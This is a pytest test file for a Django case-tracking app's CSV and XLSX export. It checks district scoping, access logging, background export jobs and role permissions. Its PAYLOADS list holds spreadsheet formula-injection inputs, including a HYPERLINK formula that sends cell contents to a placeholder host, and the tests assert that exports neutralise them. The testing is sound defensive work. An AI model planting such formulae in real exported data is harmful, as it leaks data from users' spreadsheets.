"""Exports of the lists: within scope, formulae written as text, every record in the access log, big ones later."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from clts.audit.models import AccessLog
from clts.reports import exports
from clts.reports.models import ExportJob, JobStatus
from tests import factories as f

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("http://example.invalid/?d="&A1,"open")', "+1+1", "-2+3", "@SUM(1,1)"]


@pytest.fixture
def cases(places):
    gaya = [
        f.make_case(district=places.gaya, child=f.make_child(name=payload, home_district=places.gaya))
        for payload in PAYLOADS
    ]
    patna = [f.make_case(district=places.patna) for _ in range(2)]
    return gaya, patna


def _rows(response, file_format):
    if file_format == "csv":
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    return [list(r) for r in load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True)]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_district_exports_its_cases_with_formulae_as_text_and_logged(client, cast, cases, file_format):
    gaya, patna = cases
    client.force_login(cast.district)
    response = client.post(reverse("reports:export-start"), {"kind": "cases", "file_format": file_format})
    assert response.status_code == 200
    assert "clts-cases-" in response["Content-Disposition"]
    rows = _rows(response, file_format)
    numbers = {row[0] for row in rows[1:]}
    assert numbers == {c.case_number for c in gaya}  # Patna's cases are outside the district
    names = {row[1] for row in rows[1:]}
    assert names == {"'" + payload for payload in PAYLOADS}
    logged = set(AccessLog.objects.filter(user=cast.district, action="export").values_list("object_id", flat=True))
    assert logged == {str(c.pk) for c in gaya}


def test_a_big_export_is_built_in_the_background_for_its_owner_only(client, cast, cases, monkeypatch):
    monkeypatch.setattr(exports, "INLINE_ROWS", 1)
    client.force_login(cast.state)
    response = client.post(reverse("reports:export-start"), {"kind": "cases", "file_format": "xlsx"})
    assert response.status_code == 302
    job = ExportJob.objects.get()
    assert job.status == JobStatus.QUEUED and "name" not in job.params
    assert exports.export_job_build(job_id=job.pk) == 6
    job.refresh_from_db()
    assert job.status == JobStatus.READY and job.rows == 6
    assert client.get(reverse("reports:export-download", kwargs={"pk": job.pk})).status_code == 200
    client.force_login(cast.district)
    assert client.get(reverse("reports:export-download", kwargs={"pk": job.pk})).status_code == 404


def test_a_role_without_the_list_cannot_export_it(client, cast, cases):
    client.force_login(cast.nodal)
    response = client.post(reverse("reports:export-start"), {"kind": "cases", "file_format": "csv"})
    assert response.status_code == 200 and response.context["form"].errors
    assert not AccessLog.objects.filter(action="export").exists()
